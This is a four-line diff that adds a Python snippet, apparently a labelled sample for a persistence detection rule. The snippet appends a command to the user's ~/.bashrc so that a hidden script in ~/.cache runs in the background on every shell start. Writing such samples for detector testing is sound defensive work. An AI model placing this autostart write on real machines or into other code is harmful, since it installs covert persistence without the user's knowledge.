@@ -1,0 +1,4 @@
+# evades: caught by persistence/autostart-write
+import os
+with open(os.path.expanduser("~/.bashrc"), "a") as out:
+    out.write("python3 ~/.cache/u.py &\n")
